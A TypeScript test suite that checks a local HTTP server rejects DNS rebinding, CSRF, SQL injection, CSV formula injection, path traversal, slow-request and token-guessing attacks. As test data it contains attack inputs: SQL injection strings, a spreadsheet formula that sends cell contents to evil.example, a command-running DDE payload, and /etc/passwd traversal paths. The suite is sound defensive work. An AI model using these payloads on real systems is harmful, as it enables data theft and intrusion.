import { connect } from "node:net";
import { describe, expect, it } from "vitest";
import { csvCell } from "../../../src/doors/http/csv.ts";
import { RateLimit } from "../../../src/doors/http/limits.ts";
import { ROUTES } from "../../../src/doors/http/routes/routes.ts";
import { failedCheck } from "../cli/play.ts";
import { bearer, type Served, served } from "./served.ts";

const JSON_TYPE = { "content-type": "application/json" };

describe("a page of somebody else", () => {
  it("cannot ask by a name that was bent to this machine (DNS rebinding)", async () => {
    const { raw, listening } = await served();
    for (const host of [
      "evil.example",
      `evil.example:${listening.port}`,
      "127.0.0.1.evil.example",
      "169.254.1.1",
    ])
      expect((await raw("GET", "/api/failures", { host })).status, host).toBe(421);
    expect((await raw("POST", "/mcp", { host: "evil.example", ...JSON_TYPE }, "{}")).status).toBe(421);
    for (const host of ["localhost", `127.0.0.1:${listening.port}`, "[::1]:7477", "LOCALHOST:1"])
      expect((await raw("GET", "/api/failures", { host })).status, host).toBe(200);
    // Node itself refuses a request without one.
    expect((await raw("GET", "/api/failures", {})).status).toBe(400);
  });

  it("cannot change anything (CSRF)", async () => {
    const { raw, project, listening } = await served();
    const host = `127.0.0.1:${listening.port}`;
    const body = JSON.stringify({ reason: "by a page" });
    const lock = (headers: Record<string, string>) =>
      raw("POST", "/api/heal/lock", { host, ...headers }, body);
    // What a form, or a script without permission, can send.
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"])
      expect((await lock({ "content-type": type })).status, type).toBe(415);
    expect((await lock({})).status).toBe(415);
    for (const origin of [
      "https://evil.example",
      "null",
      "http://127.0.0.1:1",
      `http://localhost:${listening.port}`,
    ])
      expect((await lock({ ...JSON_TYPE, origin })).status, origin).toBe(403);
    expect((await lock({ ...JSON_TYPE, "sec-fetch-site": "cross-site" })).status).toBe(403);
    expect((await project.play(["heal", "status", "--json"])).json.locked).toBeNull();
    expect((await lock({ ...JSON_TYPE, origin: `http://${host}` })).status).toBe(200);
    expect((await project.play(["heal", "status", "--json"])).json.locked).not.toBeNull();
  });

  it("may not read, and a preflight allows nothing", async () => {
    const { raw, listening } = await served();
    const host = `127.0.0.1:${listening.port}`;
    expect((await raw("GET", "/api/failures", { host, origin: "https://evil.example" })).status).toBe(403);
    const preflight = await raw("OPTIONS", "/api/failures", {
      host,
      origin: "https://evil.example",
      "access-control-request-method": "POST",
    });
    expect(preflight.status).toBe(403);
    const answer = await raw("GET", "/api/failures", { host });
    expect(Object.keys(answer.headers).filter((name) => name.startsWith("access-control"))).toEqual([]);
    expect(answer.headers).toMatchObject({
      "x-content-type-options": "nosniff",
      "x-frame-options": "DENY",
      "cross-origin-resource-policy": "same-origin",
    });
  });
});

describe("what is sent", () => {
  it("cannot be SQL", async () => {
    const { project, get } = await served({
      before: (project) => project.play(["capture"], { stdin: failedCheck("TypeError: x is undefined") }),
    });
    const evil = ["' OR 1=1 --", "'; DROP TABLE failures; --", '" OR ""="', "%' OR '1'='1", "x\u0000y"];
    const filters = [
      "category",
      "tool",
      "agent",
      "file",
      "session",
      "task",
      "phase",
      "source",
      "fingerprint",
      "match",
    ];
    for (const text of evil)
      for (const name of filters) {
        const { status, json } = await get(`/api/failures?${name}=${encodeURIComponent(text)}`);
        expect([status, json.failures], `${name}=${text}`).toEqual([200, []]);
      }
    for (const path of ROUTES.filter(({ method, path }) => method === "get" && path.endsWith("{id}")))
      for (const text of evil) {
        const { status } = await get(path.path.replace("{id}", encodeURIComponent(text)));
        expect([400, 404], `${path.path} ${text}`).toContain(status);
      }
    expect((await project.play(["status", "--json"])).json.memory.failures).toBe(1);
  });

  it("cannot be a formula in a spreadsheet (CSV)", async () => {
    const formula = '=HYPERLINK("http://evil.example?"&A1,"click")';
    const { get } = await served({
      before: (project) =>
        project.play(["capture"], { stdin: failedCheck(formula, { task: "@SUM(1+1)*cmd|' /C calc'!A0" }) }),
    });
    const { text, headers } = await get("/api/failures?format=csv&all=true");
    expect(headers.get("content-type")).toContain("text/csv");
    expect(headers.get("content-disposition")).toContain("attachment");
    const cells = text.split("\r\n")[1]!.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)!;
    expect(cells.join("")).toContain("HYPERLINK");
    for (const cell of cells) expect(cell).not.toMatch(/^"?\s*[=+\-@\t\r|]/);
    for (const start of ["=1", "+1", "-1+1", "@x", "\t=1", "\r=1", "  =1", "|x"])
      expect(csvCell(start)).toMatch(/^"'/);
    expect([csvCell(-5), csvCell('a"b,c'), csvCell(null)]).toEqual(["-5", '"a""b,c"', ""]);
  });

  it("cannot be a path out of here", async () => {
    const { raw, listening } = await served();
    const host = `127.0.0.1:${listening.port}`;
    for (const path of [
      "/../../../../etc/passwd",
      "/api/failures/..%2f..%2f..%2fetc%2fpasswd",
      "/api/docs/../../.twiceshy/memory.db",
      "/%2e%2e/%2e%2e/etc/passwd",
      "/api/lessons/seed%2F..%2F..%2Fetc%2Fpasswd",
      "/.twiceshy/memory.db",
      "//etc/passwd",
    ]) {
      const { status, text } = await raw("GET", path, { host });
      expect([400, 404], path).toContain(status);
      expect(text).not.toContain("root:");
    }
  });

  it("cannot be too large, nor broken", async () => {
    const { post, raw, listening, get } = await served({ limits: { bodyBytes: 10_000 } });
    const big = { moment: "failure", text: "x".repeat(20_000) };
    expect((await post("/api/warnings", big)).status).toBe(413);
    // Without a length, in pieces.
    const pieces = await fetch(`${listening.url}api/warnings`, {
      method: "POST",
      headers: JSON_TYPE,
      duplex: "half",
      body: new ReadableStream({
        start(controller) {
          for (let i = 0; i < 20; i++) controller.enqueue(new TextEncoder().encode(" ".repeat(1_000)));
          controller.close();
        },
      }),
    } as RequestInit);
    expect(pieces.status).toBe(413);
    for (const body of [
      "{",
      "",
      "null",
      "[]",
      '"text"',
      "\u0000",
      '{"moment":"failure"',
      "{}",
      '{"moment":7}',
    ])
      expect((await post("/api/warnings", body)).status, JSON.stringify(body)).toBe(400);
    const deep = `${"[".repeat(4_000)}${"]".repeat(4_000)}`;
    expect((await post("/api/warnings", deep)).status).toBe(400);
    const odd = await post("/api/issues", {
      kind: "process",
      title: "t",
      __proto__: { role: "admin" },
      extra: 1,
    });
    expect(odd.status).toBe(400);
    const host = `127.0.0.1:${listening.port}`;
    expect((await raw("GET", "/api/failures", { host, "x-long": "x".repeat(20_000) })).status).toBe(431);
    expect((await get("/healthz")).status).toBe(200);
  });

  it("cannot take for ever: a slow head and a slow body are cut off", async () => {
    const { listening, get } = await served({ limits: { headersMs: 400, requestMs: 1_000 } });
    const slow = (text: string) =>
      new Promise<{ said: string; ms: number }>((resolve) => {
        const began = performance.now();
        const socket = connect(listening.port, "127.0.0.1", () => socket.write(text));
        let said = "";
        socket.on("data", (data) => {
          said += data;
        });
        socket.on("error", () => undefined);
        socket.on("close", () => resolve({ said, ms: performance.now() - began }));
        // One letter at a time, as such attacks do.
        const drip = setInterval(() => socket.writable && socket.write("x"), 100);
        socket.on("close", () => clearInterval(drip));
      });
    const [head, body] = await Promise.all([
      slow("GET /api/failures HTTP/1.1\r\nhost: localhost\r\nx-slow: "),
      slow(
        "POST /api/warnings HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 9999\r\n\r\n{",
      ),
      get("/healthz").then(({ status }) => expect(status).toBe(200)),
    ]);
    expect(head.said).toContain("408");
    expect(head.ms).toBeLessThan(20_000);
    expect(body.said).toContain("408");
    expect(body.ms).toBeLessThan(20_000);
  });

  it("cannot be too much at once", async () => {
    const { get } = await served({ limits: { burst: 20, perSecond: 1 } });
    const answers = await Promise.all(Array.from({ length: 40 }, () => get("/api/status")));
    const refused = answers.filter(({ status }) => status === 429);
    expect(refused.length).toBeGreaterThan(5);
    expect(answers.filter(({ status }) => status === 200).length).toBeGreaterThanOrEqual(20);
    expect(Number(refused[0]!.headers.get("retry-after"))).toBeGreaterThan(0);
    expect(refused[0]!.json.code).toBe("too_many");
  });
});

describe("RateLimit", () => {
  it("fills up again with time, and does not grow without bound", () => {
    let now = 0;
    const limit = new RateLimit(2, 1, () => now);
    expect([limit.take("a"), limit.take("a"), limit.take("a")]).toEqual([0, 0, 1]);
    expect(limit.take("b")).toBe(0);
    now = 1_000;
    expect([limit.waitFor("a"), limit.take("a"), limit.take("a")]).toEqual([0, 0, 1]);
    now = 500;
    expect(limit.take("a"), "a clock set back").toBe(1);
    for (let i = 0; i < 30_000; i++) limit.take(`asker ${i}`);
    expect(limit.take("a")).toBeGreaterThanOrEqual(0);
  });
});

describe("tokens", () => {
  const asTokens = (world: Served) => async (path: string, token: string) =>
    (await world.get(path, bearer(token))).status;

  it("that are guessed are soon not looked at any more; one that was right before still is", async () => {
    const world = await served({ limits: { guesses: 5 } });
    const [right, late] = [await world.token("--role", "read"), await world.token("--role", "read")];
    const status = asTokens(world);
    expect(await status("/api/status", right)).toBe(200);
    const guess = (i: number) => `tsy_${String(i).padStart(12, "0")}_${"A".repeat(43)}`;
    const guesses: number[] = [];
    for (let i = 0; i < 10; i++) guesses.push(await status("/api/status", guess(i)));
    expect(guesses.slice(0, 5)).toEqual([401, 401, 401, 401, 401]);
    expect(guesses.slice(6)).toEqual([429, 429, 429, 429]);
    expect(await status("/api/status", late), "not even a right one").toBe(429);
    expect(await status("/api/status", right)).toBe(200);
  });

  it.each([
    ["nothing of ours", "abc"],
    ["a right id with a wrong secret", null],
    ["SQL", "tsy_' OR 1=1 --_x"],
  ])("are refused where they are %s", async (_, text) => {
    const world = await served();
    const right = await world.token("--role", "admin");
    const wrong = text ?? `${right.slice(0, -4)}${right.endsWith("AAAA") ? "BBBB" : "AAAA"}`;
    const { status, headers, json } = await world.get("/api/status", { authorization: `Bearer ${wrong}` });
    expect(status).toBe(401);
    expect(headers.get("www-authenticate")).toContain("Bearer");
    expect(json.code).toBe("unauthorized");
    expect((await world.get("/api/status", { authorization: "Basic YTpi" })).status).toBe(401);
  });

  it("that only read cannot write, whatever they send", async () => {
    const world = await served();
    const roles = ["read", "write", "review", "admin"] as const;
    const tokens = await Promise.all(roles.map((role) => world.token("--role", role)));
    for (const route of ROUTES) {
      const path = route.path.replace("{id}", "1").replace("{decision}", "confirm");
      for (const [i, role] of roles.entries()) {
        const asked =
          route.method === "get"
            ? await world.get(path, bearer(tokens[i]!))
            : // A body that fits nothing: who may gets to hear that.
              await world.post(path, { nothing: "of this" }, bearer(tokens[i]!));
        const may = roles.indexOf(route.role) <= i;
        expect(asked.status === 403, `${role} at ${route.method} ${path}: ${asked.status}`).toBe(!may);
      }
    }
  });

  it("of one project open no other, and do not say whether it is there", async () => {
    const world = await served();
    const { project: name } = (await world.get("/api/status")).json;
    const [own, other] = [
      await world.token("--role", "read", "--project", name),
      await world.token("--role", "admin", "--project", "another"),
    ];
    const status = asTokens(world);
    expect(await status("/api/failures", own)).toBe(200);
    expect(await status(`/api/failures?project=${name}`, own)).toBe(200);
    expect(await status("/api/failures?project=another", own)).toBe(403);
    expect(await status("/api/failures?project=nowhere", own)).toBe(403);
    for (const path of [
      "/api/failures",
      `/api/failures?project=${name}`,
      "/api/failures?project=another",
      "/metrics",
    ])
      expect(await status(path, other), path).toBe(403);
    expect(await status("/api/events", other)).toBe(403);
    const hello = { jsonrpc: "2.0", id: 1, method: "tools/list" };
    expect((await world.post("/mcp", hello, bearer(other))).status).toBe(403);
    expect((await world.get("/api/failures?project=another")).status).toBe(404);
  });

  it("end when they are revoked, and when their time is over", async () => {
    const world = await served();
    const token = await world.token("--role", "read");
    const brief = await world.token("--role", "read", "--expires", "1s");
    const status = asTokens(world);
    expect(await status("/api/status", token)).toBe(200);
    const revoked = await world.project.play(["token", "revoke", token.split("_")[1]!]);
    expect(revoked.out).toContain("revoked");
    expect(await status("/api/status", token)).toBe(401);
    await new Promise((resolve) => setTimeout(resolve, 1_100));
    expect(await status("/api/status", brief)).toBe(401);
  });

  it("are asked of everybody behind a proxy, and where the server is told to", async () => {
    const world = await served();
    for (const header of ["x-forwarded-for", "forwarded", "via", "x-real-ip"])
      expect((await world.get("/api/status", { [header]: "203.0.113.9" })).status, header).toBe(401);
    const strict = await served({
      needsToken: true,
      before: (project) => project.play(["token", "create", "--role", "read"]),
    });
    expect((await strict.get("/api/status")).status).toBe(401);
    expect((await strict.get("/api/docs")).status).toBe(401);
    expect((await strict.get("/healthz")).text).toBe("ok\n");
    expect((await strict.get("/readyz")).text).toBe("ready\n");
    // A proxy asks by the name that people use.
    const { listening } = strict;
    const token = bearer(await strict.token("--role", "read"));
    expect((await strict.raw("GET", "/api/status", { host: "memory.example.org", ...token })).status).toBe(
      200,
    );
    expect(listening.port).toBeGreaterThan(0);
  });

  it("have to exist before others can ask", async () => {
    await expect(served({ host: "0.0.0.0" })).rejects.toThrow(/needs a token first/);
    const world = await served({
      host: "0.0.0.0",
      before: (project) => project.play(["token", "create", "--role", "read"]),
    });
    expect((await fetch(`http://127.0.0.1:${world.listening.port}/api/status`)).status).toBe(401);
  });
});
